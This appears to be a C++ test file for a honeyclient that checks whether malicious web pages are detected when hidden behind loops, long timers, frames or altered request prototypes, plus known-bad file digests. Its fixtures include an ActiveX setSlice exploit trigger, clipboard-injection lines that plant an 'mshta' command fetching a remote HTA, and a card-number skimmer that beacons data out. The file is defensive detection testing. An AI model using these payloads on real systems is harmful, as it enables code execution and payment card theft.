@@ -1,0 +1,245 @@
+// Pages that do much that is harmless first, or wait, or break what the emulation might lean on, and then what
+// they came for: that is seen all the same, and where a bound was reached it is named.
+#include <algorithm>
+
+#include <gmock/gmock.h>
+
+#include "honeyclient/low/visit_test.h"
+
+namespace shikake::honeyclient::low {
+namespace {
+
+using ::testing::Contains;
+using ::testing::HasSubstr;
+using ::testing::IsEmpty;
+
+struct Row {
+  const char* name;
+  const char* persona;
+  Sites::Pages pages;
+  const char* verdict;
+  const char* node = nullptr;   // that must be in the record
+  const char* limit = nullptr;  // that must be named; nullptr: none at all
+};
+
+class HiddenBehind : public ::testing::TestWithParam<Row> {};
+
+TEST_P(HiddenBehind, IsSeen) {
+  Sites sites(GetParam().pages);
+  VisitOptions options = local_visit(sites.url());
+  options.persona = GetParam().persona;
+  const intel::VisitRecord visit = visit_or_fail(options);
+  EXPECT_EQ(intel::name(visit.verdict), GetParam().verdict) << ::testing::PrintToString(visit.reasons);
+  if (GetParam().limit) {
+    EXPECT_THAT(visit.limits_hit, Contains(GetParam().limit));
+    EXPECT_FALSE(visit.complete);
+  } else {
+    EXPECT_THAT(visit.limits_hit, IsEmpty()) << ::testing::PrintToString(events_of(visit, "error"));
+  }
+  if (!GetParam().node) return;
+  std::vector<std::string> nodes;
+  for (const intel::VisitNode& node : visit.nodes) nodes.push_back(sites.named(node.url));
+  EXPECT_THAT(nodes, Contains(GetParam().node)) << ::testing::PrintToString(events_of(visit, "error"));
+}
+
+const std::string leads_to_end = "new Image().src = '{b}/end'";
+
+INSTANTIATE_TEST_SUITE_P(
+    Rows, HiddenBehind,
+    ::testing::Values(
+        // --- one kind of deed many times, then the one that counts
+        Row{"a_hundred_harmless_uses_of_a_component",
+            "ie6-winxp",
+            {{"/",
+              "<script>var o = new ActiveXObject('WebViewFolderIcon.WebViewFolderIcon.1');"
+              "for (var i = 0; i < 300; i++) try { o.setSlice(1, 1, 1, i) } catch (e) {}"
+              "o.setSlice(0x7ffffffe, 0, 0, 202116108)</script>"}},
+            "malicious",
+            nullptr,
+            "component-uses"},
+        Row{"one_harmless_use_in_a_loop",
+            "ie6-winxp",
+            {{"/",
+              "<script>var o = new ActiveXObject('WebViewFolderIcon.WebViewFolderIcon.1');"
+              "for (var i = 0; i < 300; i++) o.setSlice(1, 1, 1, 1);"
+              "o.setSlice(0x7ffffffe, 0, 0, 202116108)</script>"}},
+            "malicious"},
+        Row{"many_copies_to_the_clipboard",
+            "chrome-win10",
+            {{"/",
+              "<p>x</p><script>for (var i = 0; i < 300; i++) navigator.clipboard.writeText('x' + i);"
+              "navigator.clipboard.writeText('mshta http://range.example/x.hta')</script>"}},
+            "malicious"},
+        Row{"much_talk",
+            "chrome-win10",
+            {{"/",
+              "<p>x</p><script>for (var i = 0; i < 3000; i++) console.log(i);"
+              "navigator.clipboard.writeText('mshta http://range.example/x.hta')</script>"}},
+            "malicious",
+            nullptr,
+            "notices"},
+        Row{"a_long_beginning_of_a_copy",
+            "chrome-win10",
+            {{"/",
+              "<p>x</p><script>navigator.clipboard.writeText('# ' + 'x'.repeat(5000) + "
+              "'\\nmshta http://range.example/x.hta')</script>"}},
+            "malicious"},
+        Row{"letters_to_oneself",
+            "chrome-win10",
+            {{"/", "<body><form><input name=cardnumber></form><script>"
+                   "document.forms[0][0].onchange = function () {"
+                   "for (var i = 0; i < 100; i++) navigator.sendBeacon('/' + i, this.value);"
+                   "new Image().src = '{b}/?' + btoa(this.value) }</script>"}},
+            "malicious"},
+        Row{"many_empty_frames",
+            "chrome-win10",
+            {{"/",
+              "<body><script>for (var i = 0; i < 70; i++) document.body.appendChild(document.createElement("
+              "'iframe')); var f = document.createElement('iframe'); f.src = '{b}/end';"
+              "document.body.appendChild(f)</script>"}},
+            "benign",
+            "{b}/end",
+            "frames"},
+        Row{"many_frames",
+            "chrome-win10",
+            {{"/",
+              "<body><script>for (var i = 0; i < 70; i++) { var f = document.createElement('iframe');"
+              "f.src = '/f' + i; document.body.appendChild(f) } f = document.createElement('iframe');"
+              "f.src = '{b}/end'; document.body.appendChild(f)</script>"},
+             {"/f0", "x"}},
+            "benign",
+            "{b}/end",
+            "frames"},
+        // --- time
+        Row{"a_minute", "chrome-win10", {{"/", "<script>setTimeout(\"" + leads_to_end + "\", 61000)</script>"}},
+            "benign", "{b}/end"},
+        Row{"a_day", "chrome-win10", {{"/", "<script>setTimeout(\"" + leads_to_end + "\", 86400000)</script>"}},
+            "benign", "{b}/end"},
+        Row{"several_minutes_in_steps",
+            "chrome-win10",
+            {{"/",
+              "<script>setTimeout(function () { setTimeout(function () {\nsetTimeout(function () { " +
+                  leads_to_end + " }, 40000) }, 40000) }, 40000)</script>"}},
+            "benign",
+            "{b}/end"},
+        Row{"longer_than_a_timer_can",
+            "chrome-win10",
+            {{"/", "<script>setTimeout(\"" + leads_to_end + "\", Infinity)</script>"}},
+            "benign",
+            "{b}/end"},
+        Row{"a_clock_that_ticks_is_no_wait",
+            "chrome-win10",
+            {{"/", "<p id=t></p><script>(function tick() { t.textContent = Date.now(); setTimeout(tick, 1000) "
+                   "})(); setInterval(function () {}, 30000)</script>"}},
+            "benign"},
+        Row{"a_page_that_reloads_itself_after_minutes",
+            "chrome-win10",
+            {{"/", "<script>setTimeout(function () { location.reload() }, 300000)</script>"}},
+            "benign"},
+        // --- where it goes
+        Row{"moves_to_where_it_is",
+            "chrome-win10",
+            {{"/", "<script>location.hash = 'a'; location.hash = 'a'; location.href = '#a';"
+                   "onhashchange = function () { " + leads_to_end + " }</script>"}},
+            "benign",
+            "{b}/end"},
+        // --- what the emulation might lean on
+        Row{"a_request_whose_prototype_was_changed",
+            "ie8-winxp",
+            {{"/",
+              "<script>XMLHttpRequest.prototype.open = XMLHttpRequest.prototype.send = function () {};"
+              "var r = new ActiveXObject('Microsoft.XMLHTTP'); r.Open('GET', '/x', false); r.Send();"
+              "if (r.Status == 200) new Image().src = '{b}/' + r.ResponseText</script>"},
+             {"/x", "end"}},
+            "benign",
+            "{b}/end"},
+        Row{"a_request_that_is_changed_by_its_own_handler",
+            "ie8-winxp",
+            {{"/",
+              "<script>var r = new ActiveXObject('Microsoft.XMLHTTP'); r.onreadystatechange = function () {"
+              "try { this.open = this.send = function () {} } catch (e) {} };"
+              "r.open('GET', '/x', false); r.send(); r.open('GET', '/x', false); r.send();"
+              "new Image().src = '{b}/' + r.responseText</script>"},
+             {"/x", "end"}},
+            "benign",
+            "{b}/end"},
+        // --- where nobody answers
+        Row{"a_socket",
+            "chrome-win10",
+            {{"/",
+              "<script>var s = new WebSocket('wss://socket.example/c');"
+              "s.onclose = function (e) { new Image().src = '{b}/end?' + s.readyState + e.type }</script>"}},
+            "benign",
+            "{b}/end?3close"},
+        // --- what the page holds itself
+        Row{"asks_for_a_data_url_in_the_old_way",
+            "chrome-win10",
+            {{"/",
+              "<script>var r = new XMLHttpRequest(); r.open('GET', 'data:text/plain,end');"
+              "r.onload = function () { new Image().src = '{b}/' + r.responseText }; r.send()</script>"}},
+            "benign",
+            "{b}/end"}),
+    [](const auto& row) { return row.param.name; });
+
+// What is known of a file by its digest, wherever the visit meets it.
+struct KnownRow {
+  const char* name;
+  const char* persona;
+  Sites::Pages pages;
+  const char* verdict;
+  const char* role;  // of the node that {…} names
+  const char* node;
+};
+
+class KnownBad : public ::testing::TestWithParam<KnownRow> {};
+
+TEST_P(KnownBad, FilesConvict) {
+  const std::string bad = "a specimen that somebody has judged";
+  Sites sites(GetParam().pages);
+  VisitOptions options = local_visit(sites.url());
+  options.persona = GetParam().persona;
+  options.known_bad = [&](const base::Digest& digest) -> std::optional<std::string> {
+    if (digest == base::sha256(bad)) return "seen in the wild";
+    return std::nullopt;
+  };
+  const intel::VisitRecord visit = visit_or_fail(options);
+  EXPECT_EQ(intel::name(visit.verdict), GetParam().verdict) << ::testing::PrintToString(visit.reasons);
+  if (!GetParam().node) {
+    EXPECT_THAT(events_of(visit, "known-bad"), IsEmpty());
+    return;
+  }
+  EXPECT_THAT(events_of(visit, "known-bad"), Contains(HasSubstr("seen in the wild")));
+  EXPECT_THAT(visit.reasons, Contains(HasSubstr("seen in the wild")));
+  for (const intel::VisitNode& node : visit.nodes)
+    if (sites.named(node.url) == GetParam().node) {
+      ASSERT_TRUE(node.role.has_value());
+      EXPECT_EQ(intel::name(*node.role), GetParam().role);
+      EXPECT_THAT(node.evidence, Contains(HasSubstr("seen in the wild")));
+    }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Rows, KnownBad,
+    ::testing::Values(
+        KnownRow{"a_body",
+                 "chrome-win10",
+                 {{"/", "<img src='{b}/x'>"}, {"/x", "a specimen that somebody has judged"}},
+                 "malicious",
+                 "exploit",
+                 "{b}/x"},
+        KnownRow{"a_text_that_is_evaluated",
+                 "chrome-win10",
+                 {{"/", "<script>try { eval('a specimen that' + ' somebody has judged') } catch (e) {}</script>"}},
+                 "malicious",
+                 "exploit",
+                 "{a}/"},
+        KnownRow{"another_body",
+                 "chrome-win10",
+                 {{"/", "<img src='{b}/x'>"}, {"/x", "a specimen that nobody has judged"}},
+                 "benign",
+                 nullptr,
+                 nullptr}),
+    [](const auto& row) { return row.param.name; });
+
+}  // namespace
+}  // namespace shikake::honeyclient::low
